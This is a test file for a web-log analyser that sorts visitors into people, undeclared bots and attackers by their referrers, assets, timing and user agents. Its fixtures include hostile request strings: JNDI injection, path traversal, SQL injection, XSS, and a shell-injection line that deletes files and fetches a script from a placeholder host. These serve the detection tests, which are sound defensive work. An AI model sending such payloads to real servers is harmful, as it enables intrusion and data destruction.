import { beforeAll, describe, expect, it } from 'vitest';
import { agentFacts } from '../src/index.js';
import { isAttack } from '../src/read/attacks.js';
import { featuresOf, type LineParts, log, verdictsOf } from './support.js';

const SITE = 'https://site.example';
const chrome = (major: number) =>
  `Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${major}.0.0.0 Safari/537.36`;

const visit = (host: string, agent: string, lines: readonly LineParts[]) =>
  lines.map((each) => ({ host, agent, ...each }));
const get = (path: string, at: number, referrer = '-'): LineParts => ({
  request: `GET ${path} HTTP/2.0`,
  at,
  referrer,
});
const times = <T>(n: number, make: (i: number) => T): T[] => Array.from({ length: n }, (_, i) => make(i));

/** A page from a search, what belongs to it, and a second page by a link. */
const person = (n: number, agent = chrome(120 + (n % 5))): LineParts[] =>
  visit(`198.51.100.${n}`, agent, [
    get('/', n * 50, 'https://search.example/'),
    get('/a.css', n * 50 + 1, `${SITE}/`),
    get('/b.jpg', n * 50 + 1, `${SITE}/`),
    get('/c', n * 50 + 20, `${SITE}/`),
  ]);
const people = times(40, (i) => person(i + 1)).flat();

const post = (path: string, at: number, referrer = '-'): LineParts => ({
  request: `POST ${path} HTTP/1.1`,
  at,
  referrer,
});

/** Pages whose address is typed, one each so many seconds or a little later. */
const fetched = (pages: number, seconds: number) =>
  times(pages, (i) => get(`/p${i}`, i * seconds + (i % 3) * (seconds / 4)));
/** Pages by links, each from the one before. */
const linked = (pages: number, seconds: number) =>
  fetched(pages, seconds).map((page, i) => ({ ...page, referrer: i ? `${SITE}/p${i - 1}` : '-' }));

/** Who comes to the site of these people; by address. */
const GUESTS: Readonly<Record<string, LineParts[]>> = {
  // A farm: thirty addresses, one page each, with an agent that eight people have too.
  ...Object.fromEntries(
    times(30, (i) => [`192.0.2.${i + 1}`, visit(`192.0.2.${i + 1}`, chrome(121), [get(`/c?${i}`, i * 900)])]),
  ),
  // One of its own agent is too few to tell.
  '203.0.113.1': visit('203.0.113.1', chrome(99), [get('/c', 5)]),
  // Who fetches sixteen pages, as many in no hurry, and one that has copies: something was not sent again.
  '203.0.113.2': visit('203.0.113.2', chrome(98), fetched(16, 23)),
  '203.0.113.15': visit('203.0.113.15', chrome(93), fetched(16, 137)),
  '203.0.113.3': visit('203.0.113.3', chrome(98), [...fetched(16, 23), { ...get('/p1', 4000), status: 304 }]),
  // A browser that is driven: it loads everything, and every page is typed. And a reader who types nothing.
  '203.0.113.4': visit(
    '203.0.113.4',
    chrome(97),
    times(16, (i) => [get(`/p${i}`, i * 90 + i), get('/a.css', i * 90 + i + 1, `${SITE}/p${i}`)]).flat(),
  ),
  '203.0.113.5': visit(
    '203.0.113.5',
    chrome(97),
    times(16, (i) => [
      get(`/p${i}`, i * 90 + i, i ? `${SITE}/p${i - 1}` : '-'),
      get('/a.css', i * 90 + i + 1, `${SITE}/p${i}`),
    ]).flat(),
  ),
  // A guesser of passwords and an author.
  '203.0.113.6': visit('203.0.113.6', chrome(96), [post('/wp-login.php', 7, `${SITE}/wp-login.php`)]),
  '203.0.113.7': visit('203.0.113.7', chrome(96), [
    get('/wp-login.php', 3),
    get('/a.css', 4, `${SITE}/wp-login.php`),
    post('/wp-login.php', 9, `${SITE}/wp-login.php`),
  ]),
  // An application on another host that logs its people in here.
  '203.0.113.8': visit('203.0.113.8', chrome(96), [post('/login', 7, 'https://app.example/')]),
  // A monitor with the agent of a browser, and a page left open that reloads.
  '203.0.113.9': visit(
    '203.0.113.9',
    chrome(95),
    times(60, (i) => get('/', i * 300)),
  ),
  '203.0.113.10': visit('203.0.113.10', chrome(95), [
    get('/a.css', 1, `${SITE}/`),
    ...times(60, (i) => get('/', i * 300)),
  ]),
  // An attack on a program that the site may have, a link of the site that looks like one, and a proxy wanted.
  '203.0.113.11': visit('203.0.113.11', chrome(94), [get('/index.php?page=../../../etc/passwd', 1)]),
  '203.0.113.12': visit('203.0.113.12', chrome(94), [
    get('/search?q=%3Cscript%3Ealert(1)%3C/script%3E', 1, `${SITE}/`),
  ]),
  '203.0.113.13': visit('203.0.113.13', chrome(94), [{ request: 'CONNECT mail.example:25 HTTP/1.1', status: 405 }]),
  // Nobody draws in a terminal.
  '203.0.113.14': visit('203.0.113.14', 'Lynx/2.9.0 libwww-FM/2.14', fetched(16, 23)),
  // Sixty pages by links and nothing else, as many with time to read, and as many of which a copy is kept.
  '203.0.113.16': visit('203.0.113.16', chrome(92), linked(60, 6)),
  '203.0.113.17': visit('203.0.113.17', chrome(92), linked(60, 47)),
  '203.0.113.23': visit('203.0.113.23', chrome(92), [...linked(60, 6), { ...get('/p1', 4000), status: 304 }]),
  // A browser that is driven through thirty pages.
  '203.0.113.18': visit(
    '203.0.113.18',
    chrome(91),
    fetched(30, 12).flatMap((page, i) => [page, get('/a.css', page.at!, `${SITE}/p${i}`)]),
  ),
  // A reader whose browser fetches the twelve links of each page ahead.
  '203.0.113.19': visit('203.0.113.19', chrome(90), [
    get('/a.css', 1, `${SITE}/p0`),
    ...linked(4, 20).flatMap((page, n) => [
      page,
      ...times(12, (i) => get(`/ahead${n}/${i}`, page.at! + 2 + i, `${SITE}/p${n}`)),
    ]),
  ]),
  // Pages that only their query tells apart.
  '203.0.113.22': visit(
    '203.0.113.22',
    chrome(89),
    times(16, (i) => get(`/product?id=${i * 7}`, i * 23 + (i % 3) * 5)),
  ),
  // Says nothing of itself: one gets a page, one what belongs to it too.
  '203.0.113.20': visit('203.0.113.20', 'Mozilla/5.0', [get('/c', 5)]),
  '203.0.113.21': visit('203.0.113.21', 'Mozilla/5.0', [get('/c', 5), get('/a.css', 6, `${SITE}/c`)]),
  // A network of twelve addresses, each with a browser of its own, of which one page each is all.
  ...Object.fromEntries(
    times(12, (i) => [`100.64.7.${i}`, visit(`100.64.7.${i}`, chrome(40 + i), [get(`/c?${i}`, i * 700)])]),
  ),
  // The same behind gateways, where people come from too.
  ...Object.fromEntries(
    times(12, (i) => {
      const host = `100.64.8.${i}`;
      const reader = visit(host, chrome(60 + i), [get('/c', i * 700), get('/a.css', i * 700 + 1, `${SITE}/c`)]);
      return [host, [...visit(host, chrome(20 + i), [get(`/c?${i}`, i * 700 + 90)]), ...reader]];
    }),
  ),
};

describe('what a browser brings along', () => {
  let found: Readonly<Record<string, readonly string[]>>;
  let verdicts: Awaited<ReturnType<typeof verdictsOf>>;
  beforeAll(async () => {
    verdicts = await verdictsOf(log([...people, ...Object.values(GUESTS).flat()]));
    found = Object.fromEntries(verdicts.map(({ ip, subcategory, reasons }) => [ip, [subcategory!, ...reasons]]));
  });
  const at = (last: number) => found[`203.0.113.${last}`];

  it('a fleet is known by its agent, most of whose clients load nothing, and people with that agent are not in it', () => {
    expect(times(30, (i) => found[`192.0.2.${i + 1}`]?.slice(0, 2))).toEqual(
      times(30, () => ['undeclared_bot', 'bare_agent']),
    );
    expect(times(40, (i) => found[`198.51.100.${i + 1}`]?.[0])).toEqual(times(40, () => 'human'));
    expect(at(1)?.[0]).toBe('human');
  });

  it('many pages and nothing that belongs to them is no browser, unless it has copies or no screen', () => {
    expect(at(2)?.[0]).toBe('undeclared_bot');
    expect(at(2)).toEqual(expect.arrayContaining(['bare_pages', 'bare_tour']));
    expect(at(22)?.[0]).toBe('undeclared_bot');
    expect(at(3)).not.toContain('bare_pages');
    expect(at(14)).not.toContain('bare_pages');
    expect([at(3)?.[0], at(14)?.[0]]).not.toContain('undeclared_bot');
  });

  it('to have everything and to name no referrer is no crime for who takes the time to read', () => {
    expect([at(15)?.[0], at(15)?.includes('bare_tour')]).toEqual(['suspicious', false]);
    expect([at(16)?.[0], at(16)?.includes('lone_tour')]).toEqual(['undeclared_bot', true]);
    expect(at(23)).not.toContain('lone_tour');
    expect([at(17)?.[0], at(17)?.includes('lone_tour')]).toEqual(['human', false]);
  });

  it('a browser that fetches ahead is no crawler', () => {
    expect(at(19)?.[0]).toBe('human');
  });

  it('a fleet is known by its network as well, whatever its agents, where its addresses have nobody else', () => {
    expect(times(12, (i) => found[`100.64.7.${i}`]?.slice(0, 2))).toEqual(
      times(12, () => ['undeclared_bot', 'bare_network']),
    );
    expect(
      verdicts.filter(({ ip, reasons }) => ip!.startsWith('100.64.8.') && reasons.includes('bare_network')),
    ).toEqual([]);
  });

  it('an agent that names nothing is no declared robot, and no robot where it draws pages', () => {
    expect([at(20)?.slice(0, 2), at(21)?.[0]]).toEqual([['undeclared_bot', 'ua_nameless'], 'human']);
  });

  it('pages that are all typed are opened by a program that drives a browser; to follow links is not', () => {
    expect(at(4)).toContain('opened_pages');
    expect([at(18)?.[0], at(18)?.includes('opened_tour')]).toEqual(['undeclared_bot', true]);
    expect(at(5)?.[0]).toBe('human');
  });

  it('a form is seen before it is sent, or stands on another host', () => {
    expect(at(6)?.slice(0, 2)).toEqual(['undeclared_bot', 'blind_post']);
    expect([at(7)?.[0], at(8)?.[0]]).toEqual(['human', 'human']);
  });

  it('a timer is a timer unless it loads what belongs to the page', () => {
    expect([at(9)?.[0], at(9)?.[1]]).toEqual(['undeclared_bot', 'clockwork']);
    expect([at(10)?.[0], at(10)?.includes('clockwork')]).toEqual(['human', false]);
  });

  it('attacks and proxies, not what a page of the site links to', () => {
    expect([at(11)?.[1], at(12)?.[0], at(13)?.[1]]).toEqual(['attack', 'human', 'proxy_probe']);
  });
});

it('on a site whose styles and images are elsewhere, all but the icon, nobody is bare, and in the log of a proxy CONNECT says nothing', async () => {
  const pages = (n: number): LineParts[] =>
    visit(
      `198.51.100.${n}`,
      chrome(120),
      times(16, (i) => get(`/p${i}`, n * 9 + i * (40 + (i % 7)), i ? `${SITE}/p${i - 1}` : '-')),
    );
  const alone = visit(
    '203.0.113.1',
    chrome(120),
    times(16, (i) => get(`/p${i}`, i * (40 + (i % 7)))),
  );
  const connects = times(60, (i) => ({ host: `198.51.100.${i}`, request: 'CONNECT x.example:443 HTTP/1.1', at: i }));
  const verdicts = await verdictsOf(log([...times(40, (i) => pages(i + 1)).flat(), ...alone, ...connects]));
  expect(verdicts.filter(({ label }) => label === 'bot')).toEqual([]);
});

it('in a log without referrers it takes forty pages, since nobody knows who follows links', async () => {
  const tour = (host: string, n: number) =>
    visit(
      host,
      chrome(99),
      times(n, (i) => get(`/p${i}`, i * 137 + (i % 3) * 40)),
    );
  const lines = log([...people, ...tour('192.0.2.1', 39), ...tour('192.0.2.2', 40)]).replace(
    /"[^"]*" ("[^"]*")$/gm,
    '$1',
  );
  const pattern = '%h %l %u %t "%r" %>s %b "%{User-Agent}i"';
  const found = new Map((await verdictsOf(lines, { pattern })).map((each) => [each.ip, each]));
  expect(found.get('192.0.2.1')).toMatchObject({ label: 'organic', subcategory: 'suspicious' });
  expect(found.get('192.0.2.2')?.label).toBe('bot');
});

/** Somebody in a class: a page each ten seconds, styles once. */
const pupil = (n: number, perCopy: number): LineParts[] =>
  visit(
    perCopy > 1 ? '198.51.100.250' : '203.0.113.250',
    chrome(123),
    times(8, (i) => [
      get(`/q${(n * 3 + i) % 40}`, n + i * 10, i ? `${SITE}/q${(n * 3 + i - 1) % 40}` : '-'),
      ...(i % perCopy ? [] : [get('/a.css', n + i * 10, `${SITE}/q${(n * 3 + i) % 40}`)]),
    ]).flat(),
  );

it('a class behind one address is people, and as much of a browser that keeps nothing is not', async () => {
  const lines = [8, 1].flatMap((perCopy) => times(40, (n) => pupil(n, perCopy)).flat());
  const found = new Map((await verdictsOf(log([...people, ...lines]))).map((each) => [each.ip, each]));
  expect(found.get('198.51.100.250')).toMatchObject({ label: 'organic' });
  expect(found.get('203.0.113.250')).toMatchObject({ label: 'bot', reasons: expect.arrayContaining(['rate_peak']) });
});

it('features of a worked example', async () => {
  const table = await featuresOf(
    log([...person(1), ...visit('192.0.2.9', chrome(121), [get('/c', 1), get('/d', 2, `${SITE}/never`)])]),
  );
  const of = (name: string) => table.need(name);
  const [bare, read] = ['192.0.2.9', '198.51.100.1'].map((ip) => table.attributes.country.indexOf(ip)) as [
    number,
    number,
  ];
  expect([of('bare_pages')[bare], of('bare_pages')[read]]).toEqual([2, 0]);
  expect(of('agent_visitors')[bare]).toBe(2);
  expect(of('agent_bare_share')[read]).toBe(0.5);
  expect(of('site_asset_visitors')[read]).toBe(1);
  expect(of('site_bare_share')[read]).toBeNaN();
  expect(['browser_copies', 'pages_per_copy', 'linked_pages_ratio'].map((name) => of(name)[read])).toEqual([1, 2, 0.5]);
});

it('who loads what belongs to pages is asked of those who got two', async () => {
  const two = (n: number) => visit(`198.51.100.${n}`, chrome(120), [get('/', n), get('/a.css', n), get('/c', n + 9)]);
  const one = (n: number) => visit(`192.0.2.${n}`, chrome(121), [get('/', n), ...(n > 1 ? [] : [get('/a.css', n)])]);
  const table = await featuresOf(log([...two(1), ...two(2), ...one(1), ...one(2), ...one(3)]));
  expect(new Set(table.need('site_asset_visitors'))).toEqual(new Set([1]));
});

it('claims to draw pages: browsers, not what is within apps, mail and feed readers, nor robots', () => {
  const drawn = (agent: string) => agentFacts(agent).graphical;
  expect(drawn(chrome(120))).toBe(true);
  expect(drawn('Opera/9.80 (J2ME/MIDP; Opera Mini/4.2/35.5; U; en) Presto/2.8.119 Version/11.10')).toBe(true);
  expect(drawn('Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)')).toBe(true);
  expect(drawn('Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Thunderbird/115.6.0')).toBe(false);
  expect(drawn('Mozilla/5.0 (Linux; Android 13; SM-A515F; wv) AppleWebKit/537.36 Chrome/120 Mobile')).toBe(false);
  expect(drawn('Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.1)')).toBe(false);
  expect(drawn('Lynx/2.9.0')).toBe(false);
});

it.each([
  '/?x=%24{jndi:ldap://192.0.2.1/a}',
  '/cgi-bin/.%2e/.%2e/.%2e/bin/sh',
  '/a.php?id=1%27%20OR%20%271%27=%271',
  '/a?id=-1+UNION+SELECT+1,2--',
  '/a?f=%252e%252e%252f%252e%252e%252fetc/passwd',
  '/index.php?s=/Index/\\think\\app/invokefunction&function=x',
  '/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.1/m.sh',
  '/a%00.jpg',
  '/?author=1',
])('%s is an attack', (target) => expect(isAttack(target)).toBe(true));

it.each([
  '/',
  '/search?q=european+union+select+committee',
  '/search?q=how+to+sleep(10)',
  '/a/../b',
  '/books?author=tolstoy',
  '/redirect?to=https://site.example/',
  '/wiki/Robert%27s_Rules',
  '/files/100%25.txt',
  '/%E4%BD%A0',
  '/a?x={"filter":"<5"}',
])('%s is none', (target) => expect(isAttack(target)).toBe(false));
